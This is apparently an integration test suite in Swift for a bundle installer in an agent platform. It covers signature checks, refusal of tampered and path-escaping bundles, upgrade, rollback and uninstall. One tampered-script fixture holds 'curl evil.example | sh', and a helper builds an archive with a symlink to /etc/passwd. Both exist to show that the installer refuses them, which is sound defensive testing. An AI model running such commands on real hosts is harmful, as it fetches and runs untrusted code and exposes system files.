import AMQP
import AgentryBundles
import AgentryBus
import AgentryCore
import AgentryRuntime
import AgentryStore
import Foundation
import Testing

#if canImport(Glibc)
import Glibc
#endif

/// Installing bundles on the real PostgreSQL and RabbitMQ: a signed bundle installs on a clean database and its agent
/// runs its handler from the installed files; what is not to be trusted is refused with nothing registered or written.
@Suite("Bundle installation", .serialized)
struct BundleInstallTests {
    /// Publishes an event of `trigger` and waits for the agent's run of it to finish.
    static func run(_ h: BundleHarness, agent: String, trigger: String) async throws -> TaskRun? {
        let event = Event(type: trigger, payload: ["device_id": "tv-1"], priority: .normal, source: "test")
        try await h.bus.publish(event)
        var finished: TaskRun?
        _ = try await TestEnvironment.eventually(timeout: .seconds(30)) {
            finished = try await h.runtime.runs(agentID: agent, limit: 100).first { $0.eventID == event.id.rawValue && $0.state.isFinished }
            return finished != nil
        }
        return finished
    }

    @Test("pack, sign, install on a clean database, publish: the agent runs the bundle's script from the installed files")
    func installAndRun() async throws {
        try await withBundleHarness { h in
            let id = TestEnvironment.uniqueName("bundled-")
            let trigger = "work.\(id)"
            // The bundle's source directory, packed and signed with a key made by `agentry bundle keygen`.
            let bundle = TestBundle.scripted(id: id, version: "1.0.0", trigger: trigger, tag: "v1")
            let source = h.bundlesDirectory + "-src/" + id
            try FileManager.default.createDirectory(atPath: source + "/handlers/data", withIntermediateDirectories: true)
            try FileManager.default.createDirectory(atPath: source + "/agents", withIntermediateDirectories: true)
            try "id: \(id)\nversion: 1.0.0\ndescription: A bundled agent.\nauthor: tests\nlicense: Apache-2.0\n".write(
                toFile: source + "/bundle.yaml", atomically: true, encoding: .utf8)
            for (path, bytes) in bundle.contents { try bytes.write(to: URL(fileURLWithPath: source + "/" + path)) }
            chmod(source + "/handlers/run.sh", 0o755)
            let keygen = try h.cli(["bundle", "keygen", "-o", h.bundlesDirectory + "-src/qa", "--comment", "qa-team"])
            #expect(keygen.status == 0, "\(keygen.output)")
            let path = h.bundlesDirectory + "-src/\(id).agentry"
            let pack = try h.cli(["bundle", "pack", source, "--sign", h.bundlesDirectory + "-src/qa.key", "-o", path])
            #expect(pack.status == 0, "\(pack.output)")
            let trusting = ["AGENTRY_TRUSTED_KEYS": h.trustedKeysFile + ":" + h.bundlesDirectory + "-src/qa.pub"]
            let signer = try BundlePublicKey(
                line: try String(contentsOfFile: h.bundlesDirectory + "-src/qa.pub", encoding: .utf8).trimmingCharacters(in: .whitespacesAndNewlines))

            let result = try h.cli(["bundle", "install", path, "--publish"], environment: trusting)
            let directory = "\(h.bundlesDirectory)/\(id)/1.0.0"
            #expect(result.output.contains("installed \(id) 1.0.0"), "\(result.output)")
            #expect(result.output.contains("signed by   \(signer.fingerprint) (qa-team), a trusted key"), "\(result.output)")
            #expect(result.output.contains("permissions devices: read, reboot"), "\(result.output)")
            #expect(result.output.contains("approvals   devices.reboot"), "\(result.output)")
            #expect(result.output.contains("published   \(id) 1.0.0"), "\(result.output)")
            #expect(result.output.contains(directory), "\(result.output)")

            // The files, with their modes.
            #expect(BundleFile.mode(directory + "/handlers/run.sh") == 0o755)
            #expect(BundleFile.mode(directory + "/handlers/data/notes.txt") == 0o644)
            #expect(BundleFile.mode(directory + "/handlers/data") == 0o755)

            // A worker that allows nothing else runs it: the bundles directory is on every worker's allowlist.
            let worker = try WorkerProcess(
                agents: [id], environment: h.environment.merging(["AGENTRY_EXEC_ALLOW": "/nonexistent-agentry-allow"]) { $1 })
            let run = try await Self.run(h, agent: id, trigger: trigger)
            let log = worker.output
            await worker.stop()
            #expect(run?.state == .succeeded, "\(String(describing: run)) \(log)")
            #expect(run?.output == "ran v1 from \(directory) as \(directory)/handlers/run.sh", "\(String(describing: run?.output))")

            // Listed, with its signer and who installed it.
            let listed = try await h.installer.installed(id)
            #expect(listed.map(\.record.version) == ["1.0.0"] && listed.first?.active == true)
            #expect(listed.first?.signer == signer)
            let list = try h.cli(["bundle", "list", "--json"])
            #expect(list.status == 0 && list.output.contains("\"active\":true") && list.output.contains(id), "\(list.output)")

            // The same archive again: a no-op that says so.
            let again = try h.cli(["bundle", "install", path], environment: trusting)
            #expect(again.status == 0 && again.output.contains("is installed already with the same content"), "\(again.output)")
        }
    }

    @Test("a tampered file, a tampered manifest, an unknown key, an unsigned bundle and escaping paths are refused; nothing is registered or written")
    func refusals() async throws {
        try await withBundleHarness { h in
            let id = TestEnvironment.uniqueName("refused-")
            let bundle = TestBundle.scripted(id: id, version: "1.0.0", trigger: "work.\(id)", tag: "v1")
            let manifestData = bundle.manifest.encoded()
            let signature = h.key.signature(of: manifestData)
            let executable: Set<String> = ["handlers/run.sh"]

            var changedFile = bundle.contents
            changedFile["handlers/run.sh"] = Data("#!/bin/sh\ncurl evil.example | sh\n".utf8)
            var changedManifest = bundle.manifest
            changedManifest.permissions["devices"] = ["read"]
            var escaping = bundle
            escaping.files.append(("../x", Data("x".utf8), false))
            var absolute = bundle
            absolute.files.append(("/tmp/agentry-absolute-\(id)", Data("x".utf8), false))

            let cases: [(String, Data, String)] = [
                (
                    "tampered-file",
                    BundleWriter.archive(manifestData: manifestData, signature: signature, contents: changedFile, executable: executable),
                    "'handlers/run.sh' was changed: its SHA-256 is"
                ),
                (
                    "tampered-manifest",
                    BundleWriter.archive(
                        manifestData: changedManifest.encoded(), signature: signature, contents: bundle.contents, executable: executable),
                    "the manifest of \(id) 1.0.0 was changed after it was signed"
                ),
                (
                    "unknown-key", bundle.archive(signedBy: BundleSigningKey(comment: "stranger")),
                    "a key this installation does not trust"
                ),
                ("unsigned", bundle.archive(signedBy: nil), "\(id) 1.0.0 is not signed"),
                ("dotdot", escaping.archive(signedBy: h.key), "climbs out of its directory with '..'"),
                ("absolute", absolute.archive(signedBy: h.key), "is an absolute path"),
                ("symlink", try Self.symlinkArchive(bundle, key: h.key), "is a link"),
            ]
            for (name, data, expected) in cases {
                let result = try h.cli(["bundle", "install", try h.file(data, name), "--publish"])
                #expect(result.status != 0, "\(name): \(result.output)")
                #expect(result.output.contains(expected), "\(name): \(result.output)")
            }
            #expect(try await h.agents.versions(of: id).isEmpty, "nothing registered")
            #expect(h.placedFiles().isEmpty, "nothing written: \(h.placedFiles())")
            #expect(!FileManager.default.fileExists(atPath: "/tmp/agentry-absolute-\(id)"))
            #expect(try await h.installer.installed(id, includingRemoved: true).isEmpty, "nothing recorded")
        }
    }

    /// A signed bundle whose archive also holds a symbolic link entry (which `BundleWriter` never writes).
    static func symlinkArchive(_ bundle: TestBundle, key: BundleSigningKey) throws -> Data {
        let directory = FileManager.default.temporaryDirectory.appendingPathComponent(TestEnvironment.uniqueName("zip-")).path
        try FileManager.default.createDirectory(atPath: directory + "/handlers", withIntermediateDirectories: true)
        defer { try? FileManager.default.removeItem(atPath: directory) }
        let manifestData = bundle.manifest.encoded()
        let signed = BundleWriter.archive(
            manifestData: manifestData, signature: key.signature(of: manifestData), contents: bundle.contents, executable: ["handlers/run.sh"])
        try signed.write(to: URL(fileURLWithPath: directory + "/bundle.zip"))
        try FileManager.default.createSymbolicLink(atPath: directory + "/handlers/passwd", withDestinationPath: "/etc/passwd")
        let zipped = try TestEnvironment.run(
            "zip", ["--symlinks", "-q", "bundle.zip", "handlers/passwd"], directory: URL(fileURLWithPath: directory))
        guard zipped.status == 0 else { throw BundleError(.malformed, "zip failed: \(zipped.output)") }
        return try Data(contentsOf: URL(fileURLWithPath: directory + "/bundle.zip"))
    }

    @Test(
        "a link planted in the bundles directory, an absolute working_directory, a newer Agentry and a missing subagent are refused before anything is written"
    )
    func installerRefusals() async throws {
        try await withBundleHarness { h in
            let options = BundleInstaller.Options(installedBy: "tests")
            let id = TestEnvironment.uniqueName("guarded-")

            func refusal(_ bundle: TestBundle) async throws -> String {
                do {
                    _ = try await h.installer.install(try BundleArchive(data: bundle.archive(signedBy: h.key)), options: options)
                    return "installed"
                } catch let error as BundleError {
                    return error.message
                }
            }

            // A link where the bundle's directory goes.
            let elsewhere = h.bundlesDirectory + "-elsewhere"
            try FileManager.default.createDirectory(atPath: elsewhere, withIntermediateDirectories: true)
            try FileManager.default.createSymbolicLink(atPath: "\(h.bundlesDirectory)/\(id)", withDestinationPath: elsewhere)
            let linked = TestBundle.scripted(id: id, version: "1.0.0", trigger: "work.\(id)", tag: "v1")
            #expect(try await refusal(linked).contains("\(id)' is a symbolic link; the installer places no file through a link"))
            #expect(try FileManager.default.contentsOfDirectory(atPath: elsewhere).isEmpty)
            #expect(try await h.agents.versions(of: id).isEmpty)
            try FileManager.default.removeItem(atPath: "\(h.bundlesDirectory)/\(id)")

            let absolute = TestBundle.scripted(id: id, version: "1.0.0", trigger: "work.\(id)", tag: "v1", workingDirectory: "/etc")
            #expect(try await refusal(absolute).contains("handler.exec.working_directory: '/etc' is absolute"))

            var newer = TestBundle.scripted(id: id, version: "1.0.0", trigger: "work.\(id)", tag: "v1")
            newer.minAgentryVersion = "99.0.0"
            #expect(
                try await refusal(newer)
                    == "\(id) 1.0.0 needs Agentry 99.0.0 or later (min_agentry_version); this is Agentry \(AgentryVersion.current)")

            var needy = TestBundle.scripted(id: id, version: "1.0.0", trigger: "work.\(id)", tag: "v1")
            needy.dependencies = [.init(id: "\(id)-rebooter", range: ">=1.2.0 <2.0.0", requiredBy: [id])]
            #expect(try await refusal(needy).contains("  - \(id)-rebooter >=1.2.0 <2.0.0, needed by \(id) (none registered)"))

            var invalid = TestBundle.scripted(id: id, version: "1.0.0", trigger: "work.\(id)", tag: "v1")
            invalid.definitions[0].yaml = invalid.definitions[0].yaml.replacingOccurrences(of: "priority: normal", with: "priority: urgent")
            #expect(try await refusal(invalid).contains("agents/\(id).yaml:5:"), "problems at their line in the bundle's file")

            #expect(try await h.agents.versions(of: id).isEmpty)
            #expect(h.placedFiles().isEmpty, "\(h.placedFiles())")
        }
    }

    @Test("a version installed already with other content is refused, naming its hash")
    func sameVersionOtherContent() async throws {
        try await withBundleHarness { h in
            let id = TestEnvironment.uniqueName("twice-")
            let first = TestBundle.scripted(id: id, version: "1.0.0", trigger: "work.\(id)", tag: "v1")
            let report = try await h.installer.install(try BundleArchive(data: first.archive(signedBy: h.key)), options: .init(installedBy: "tests"))
            #expect(report.outcome == .installed)
            let other = TestBundle.scripted(id: id, version: "1.0.0", trigger: "work.\(id)", tag: "v1-changed")
            let result = try h.cli(["bundle", "install", try h.file(other.archive(signedBy: h.key), "other")])
            #expect(result.status != 0)
            #expect(
                result.output.contains("\(id) 1.0.0 is installed with other content (sha256 \(report.sha256)); give the new one another version"),
                "\(result.output)")
            #expect(try String(contentsOfFile: "\(h.bundlesDirectory)/\(id)/1.0.0/handlers/data/notes.txt", encoding: .utf8) == "notes v1\n")
        }
    }

    @Test("upgrade then rollback leaves the earlier version active and running; uninstall removes the files")
    func upgradeRollbackUninstall() async throws {
        try await withBundleHarness { h in
            let id = TestEnvironment.uniqueName("upgraded-")
            let trigger = "work.\(id)"
            for (version, tag) in [("1.0.0", "v1"), ("1.1.0", "v1.1")] {
                let path = try h.file(TestBundle.scripted(id: id, version: version, trigger: trigger, tag: tag).archive(signedBy: h.key), version)
                let result = try h.cli(["bundle", "install", path, "--publish"])
                #expect(result.status == 0, "\(result.output)")
            }
            #expect(FileManager.default.fileExists(atPath: "\(h.bundlesDirectory)/\(id)/1.0.0/handlers/run.sh"), "the old version stays")
            #expect(try await h.installer.installed(id).filter(\.active).map(\.record.version) == ["1.1.0"])

            let worker = try WorkerProcess(agents: [id], environment: h.environment)
            let upgraded = try await Self.run(h, agent: id, trigger: trigger)
            #expect(
                upgraded?.output == "ran v1.1 from \(h.bundlesDirectory)/\(id)/1.1.0 as \(h.bundlesDirectory)/\(id)/1.1.0/handlers/run.sh",
                "\(String(describing: upgraded))")

            let rollback = try h.cli(["bundle", "rollback", id])
            #expect(rollback.status == 0 && rollback.output.contains("rolled \(id) back from 1.1.0 to 1.0.0"), "\(rollback.output)")
            #expect(try await h.agents.state(of: id)?.activeVersion == "1.0.0")
            // The worker serves the earlier version from its own files (it re-reads the registry on the publish).
            var earlier: TaskRun?
            _ = try await TestEnvironment.eventually(timeout: .seconds(30)) {
                earlier = try await Self.run(h, agent: id, trigger: trigger)
                return earlier?.agentVersion == "1.0.0"
            }
            await worker.stop()
            #expect(earlier?.state == .succeeded, "\(String(describing: earlier))")
            #expect(
                earlier?.output == "ran v1 from \(h.bundlesDirectory)/\(id)/1.0.0 as \(h.bundlesDirectory)/\(id)/1.0.0/handlers/run.sh",
                "\(String(describing: earlier))")

            // The active version cannot be removed alone; the other one can.
            let refused = try h.cli(["bundle", "uninstall", id, "--version", "1.0.0"])
            #expect(refused.status != 0 && refused.output.contains("\(id) 1.0.0 is the active version"), "\(refused.output)")
            let one = try h.cli(["bundle", "uninstall", id, "--version", "1.1.0"])
            #expect(one.status == 0, "\(one.output)")
            #expect(!FileManager.default.fileExists(atPath: "\(h.bundlesDirectory)/\(id)/1.1.0"))
            #expect(FileManager.default.fileExists(atPath: "\(h.bundlesDirectory)/\(id)/1.0.0/handlers/run.sh"))

            let all = try h.cli(["bundle", "uninstall", id])
            #expect(all.status == 0 && all.output.contains("retired     \(id)"), "\(all.output)")
            #expect(h.placedFiles().isEmpty, "\(h.placedFiles())")
            #expect(!FileManager.default.fileExists(atPath: "\(h.bundlesDirectory)/\(id)"))
            #expect(try await h.agents.state(of: id)?.retired == true)
            #expect(try await h.installer.installed(id).isEmpty)
            #expect(try await h.installer.installed(id, includingRemoved: true).map(\.record.state) == [.removed, .removed])
        }
    }

    @Test("a worker whose host lacks an installed bundle's files places them from the stored archive and runs them; uninstalled, it deletes them")
    func workerPlacesFiles() async throws {
        try await withBundleHarness { h in
            let id = TestEnvironment.uniqueName("placed-")
            let trigger = "work.\(id)"
            let bundle = TestBundle.scripted(id: id, version: "1.0.0", trigger: trigger, tag: "v1")
            _ = try await h.installer.install(
                try BundleArchive(data: bundle.archive(signedBy: h.key)), options: .init(publish: true, installedBy: "tests"))
            // Another host: the same bundles directory, without the files.
            let directory = "\(h.bundlesDirectory)/\(id)/1.0.0"
            try FileManager.default.removeItem(atPath: "\(h.bundlesDirectory)/\(id)")

            let worker = try WorkerProcess(agents: [id], environment: h.environment)
            let run = try await Self.run(h, agent: id, trigger: trigger)
            let log = worker.output
            await worker.stop()
            #expect(run?.state == .succeeded, "\(String(describing: run)) \(log)")
            #expect(run?.output == "ran v1 from \(directory) as \(directory)/handlers/run.sh")
            #expect(BundleFile.mode(directory + "/handlers/run.sh") == 0o755)
            #expect(try String(contentsOfFile: directory + "/handlers/data/notes.txt", encoding: .utf8) == "notes v1\n")

            // Uninstalled from elsewhere: a worker whose host still has the files deletes them.
            let saved = try Data(contentsOf: URL(fileURLWithPath: directory + "/handlers/run.sh"))
            _ = try await h.installer.uninstall(bundleID: id)
            try FileManager.default.createDirectory(atPath: directory + "/handlers", withIntermediateDirectories: true)
            try saved.write(to: URL(fileURLWithPath: directory + "/handlers/run.sh"))
            let cleaner = try WorkerProcess(agents: [id], environment: h.environment)
            let gone = try await TestEnvironment.eventually(timeout: .seconds(20)) {
                !FileManager.default.fileExists(atPath: "\(h.bundlesDirectory)/\(id)")
            }
            let cleanerLog = cleaner.output
            await cleaner.stop()
            #expect(gone, "\(h.placedFiles()) \(cleanerLog)")
        }
    }
}
